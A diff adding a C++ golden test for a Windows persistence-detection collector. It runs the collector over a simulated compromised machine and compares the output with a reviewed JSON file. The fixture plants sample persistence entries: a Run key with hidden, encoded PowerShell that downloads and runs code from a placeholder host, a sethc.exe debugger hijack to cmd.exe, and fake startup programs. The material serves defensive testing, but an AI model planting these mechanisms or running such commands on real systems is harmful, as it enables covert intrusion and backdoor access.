@@ -1,0 +1,115 @@
+// A whole run over a made machine, compared with what was reviewed before.
+// Regenerate with HOZEN_REGENERATE=1 and review the difference.
+#include <gtest/gtest.h>
+
+#include <algorithm>
+#include <cstdlib>
+#include <filesystem>
+#include <fstream>
+#include <iterator>
+#include <string>
+
+#include "collector/engine/embedded_profiles.h"
+#include "tests/builders/fake_windows.h"
+#include "tests/engine/run_bundle.h"
+
+namespace hozen {
+namespace {
+
+using test::Json;
+using test::RunBundle;
+
+constexpr const char* kRun = "Software\\Microsoft\\Windows\\CurrentVersion\\Run";
+constexpr const char* kIfeo =
+    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options";
+
+/// An ordinary program, and each of the usual ways to stay.
+fake::FakeWindows compromised_machine() {
+  fake::FakeWindows windows;
+  windows.user("alice");
+  windows.user("\u4F50\u85E4");
+  windows.user("gone", {.in_profile_list = false});
+  windows.program("C:\\Program Files\\Vendor\\updater.exe");
+  windows.value("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "Vendor",
+                fake::sz("\"C:\\Program Files\\Vendor\\updater.exe\" /background"));
+  windows.program("C:\\Users\\alice\\AppData\\Local\\Temp\\svchost.exe");
+  windows.value(std::string{"HKU\\alice\\"} + kRun, "Update",
+                fake::sz("C:\\Users\\alice\\AppData\\Local\\Temp\\svchost.exe -k"));
+  windows.value(
+      std::string{"HKU\\\u4F50\u85E4\\"} + kRun, "\u66F4\u65B0",
+      fake::sz("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8A"
+               "LwBlAHgAYQBtAHAAbABlAC4AaQBuAHYAYQBsAGkAZAAvAGEAKQA="));
+  windows.value(std::string{"HKU\\gone\\"} + kRun, "left",
+                fake::sz("rundll32.exe C:\\ProgramData\\x\\left.dll,Start"));
+  windows.program("C:\\ProgramData\\x\\left.dll");
+  windows.value(std::string{kIfeo} + "\\sethc.exe", "Debugger",
+                fake::sz("C:\\Windows\\System32\\cmd.exe"));
+  windows.program("C:\\Windows\\System32\\cmd.exe");
+  windows.file("C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\logon.bat",
+               "@echo off\r\nstart C:\\Users\\Public\\a.exe\r\n");
+  windows.file("C:\\Windows\\System32\\Tasks\\Example", "<Task/>");
+  windows.file("C:\\Windows\\System32\\drivers\\etc\\hosts", "127.0.0.1 localhost\r\n");
+  return windows;
+}
+
+/// Leaves out what follows from the layout of the builder's hives.
+void make_canonical(Json& value) {
+  if (value.is_object()) {
+    for (const char* name : {"offset", "sha256", "sha1", "md5"}) value.erase(name);
+    for (auto& [name, member] : value.items()) make_canonical(member);
+  } else if (value.is_array()) {
+    for (auto& member : value) make_canonical(member);
+  }
+}
+
+std::string canonical(const RunBundle& bundle) {
+  Json all;
+  all["entries"] = bundle.order;
+  for (const char* stream :
+       {"findings", "records/run_keys", "records/autostarts", "records/problems", "artifacts"})
+    all[stream] = bundle.rows(stream);
+  all["counts"] = bundle.json("manifest.json")["counts"];
+  all["counts"].erase("bytes");  // of the log and the manifest's own times
+  make_canonical(all);
+  return all.dump(1) + "\n";
+}
+
+TEST(Golden, WholeRunOverAMadeMachine) {
+  const auto text = embedded_profile_text(embedded_profiles(), "persistence");
+  ASSERT_TRUE(text);
+  test::RunSetup setup;
+  const std::vector<ProfileText> texts{*text};
+  ProfileReading reading =
+      read_profiles(texts, embedded_profiles(), module_names_of(all_modules()));
+  ASSERT_TRUE(reading.problems.empty());
+  setup.options.profile = std::move(reading.profile);
+  setup.modules = {all_modules().begin(), all_modules().end()};
+  const auto source = compromised_machine().source();
+  const RunBundle bundle = test::run_bundle(*source, setup);
+  ASSERT_FALSE(bundle.error);
+  const std::string actual = canonical(bundle);
+
+  const char* root = std::getenv("HOZEN_SOURCE_DIR");
+  const std::filesystem::path file = std::filesystem::path{root != nullptr ? root : "."} /
+                                     "tests/engine/golden/compromised_machine.json";
+  if (std::getenv("HOZEN_REGENERATE") != nullptr) {
+    std::filesystem::create_directories(file.parent_path());
+    std::ofstream{file, std::ios::binary} << actual;
+  }
+  std::ifstream stored{file, std::ios::binary};
+  const std::string expected{std::istreambuf_iterator<char>{stored}, {}};
+  if (actual == expected) return;
+  const auto [a, e] = std::mismatch(actual.begin(), actual.end(), expected.begin(), expected.end());
+  const auto line = 1 + std::count(actual.begin(), a, '\n');
+  const auto around = [](const std::string& whole, std::string::const_iterator at) {
+    const auto start = at - std::min<std::ptrdiff_t>(at - whole.begin(), 200);
+    return std::string{start, at + std::min<std::ptrdiff_t>(whole.end() - at, 200)};
+  };
+  ADD_FAILURE() << "differs from line " << line << " on; now:\n"
+                << around(actual, a) << "\nreviewed:\n"
+                << around(expected, e)
+                << "\nHOZEN_REGENERATE=1 writes the new one; review it with git diff.";
+}
+
+}  // namespace
+}  // namespace hozen
